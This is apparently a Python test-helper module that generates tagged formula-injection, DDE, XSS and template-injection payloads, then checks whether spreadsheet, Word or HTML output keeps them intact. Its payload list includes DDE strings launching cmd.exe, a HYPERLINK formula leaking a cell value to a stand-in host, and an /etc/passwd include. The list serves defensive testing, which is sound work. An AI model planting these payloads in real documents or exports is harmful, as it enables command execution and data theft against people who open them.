"""Texts that try to be more than text in a spreadsheet, a Word document or a browser, with their origin."""

import json
import re
from collections.abc import Iterable

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    '"=1+1"',
    "＝1+1",
    "{=1+1}",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://x.invalid/?leak="&A1;"more")',
    '=WEBSERVICE("https://x.invalid/")',
    "Office;=1+1",
    'Office",=1+1',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" { HYPERLINK "https://x.invalid/" }',
    '"><script>alert(1)</script><a href="javascript:alert(1)" onclick=alert(1)>',
    "{{ 7*7 }}{% include '/etc/passwd' %}&lt;script&gt;",
)
"""What stands at the head of a text."""

_TAG = re.compile(r"⟦([a-z_]+\.[a-z_]+(?:/[^⟦⟧]*)?) (\d+)⟧")


def hostile(origin: str, number: int) -> str:
    """Return a text of that origin with one of the payloads at its head; its end says which and whose."""
    place = number % len(PAYLOADS)
    return f"{PAYLOADS[place]}⟦{origin} {place}⟧"


def hostile_json(origin: str, number: int, how_many: int = 2) -> str:
    """Return a JSON list of such texts."""
    return json.dumps([hostile(origin, number + one) for one in range(how_many)], ensure_ascii=False)


def origins(texts: Iterable[str]) -> set[str]:
    """Return the origins of the hostile texts that stand in some texts to their end."""
    return {found[1].partition("/")[0] for text in texts for found in _TAG.finditer(text)}


def payloads(texts: Iterable[str]) -> set[int]:
    """Return the places of the payloads of the hostile texts that stand in some texts to their end."""
    return {int(found[2]) for text in texts for found in _TAG.finditer(text)}


def altered(texts: Iterable[str]) -> list[str]:
    """Return the marks of the hostile texts that do not stand there with their whole payload.

    White space at the head may be gone, and each break of a line is one: Word, HTML and XML know one kind.
    """
    lines = (text.replace("\r", "\n") for text in texts)
    return [found[0] for text in lines for found in _TAG.finditer(text) if not _is_whole(text, found)]


def _is_whole(text: str, found: re.Match[str]) -> bool:
    payload = PAYLOADS[int(found[2])].replace("\r", "\n").strip()
    return text[: found.start()].endswith(payload)
